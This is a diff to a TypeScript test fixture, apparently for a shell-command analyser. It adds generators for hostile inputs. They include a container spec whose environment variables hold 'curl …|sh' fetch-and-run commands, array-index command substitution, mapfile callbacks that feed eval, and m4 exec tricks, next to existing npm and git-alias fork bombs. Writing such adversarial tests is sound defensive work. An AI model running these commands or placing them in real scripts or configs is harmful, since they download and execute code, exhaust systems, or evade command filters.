@@ -94,6 +94,19 @@ export const HOSTILE: Readonly<Record<string, (size: number) => JsonObject>> = {
   'scripts that start scripts': text('npm start;', `echo '{"scripts":{"start":"npm start;npm start"}}'>package.json;`),
   'a tool that keeps itself': text("git config alias.x '!git x;git x';"),
   'a number of many digits': text('9', "dc -e '", "P'|sh"),
+  'tools that are told by many files': text((index) => `echo exec>f${index};m4 f;`),
+  'commands in many variables': (size) => ({
+    containers: [
+      {
+        name: 'a',
+        image: 'alpine',
+        command: ['m4'],
+        env: filledList(size - FRAME, (index) => ({ name: `A${index}`, value: `curl a${index}|sh;` })),
+      },
+    ],
+  }),
+  'indices that run': text('x=\'q[$(a)]\';unset "$x";printf -v "$x" b;'),
+  'a call for each line': text('a\n', "f(){ s=$s$2;};mapfile -C f -c 1<<'E'\n", '\nE\neval "$s"'),
   'texts that nobody reads': text((index) => `a '${String(index).padStart(6, '0').repeat(6)}'|b;`),
   'one text that nobody reads, for many programs': text('a "$A";', `A='${'=4x &#1 ,9 Ab0-'.repeat(120)}';`),
   'text that is run when no work is left': text('eval "$x";', `A='${'0f'.repeat(400)}';x=a;${'x=$x$x;'.repeat(12)}`),
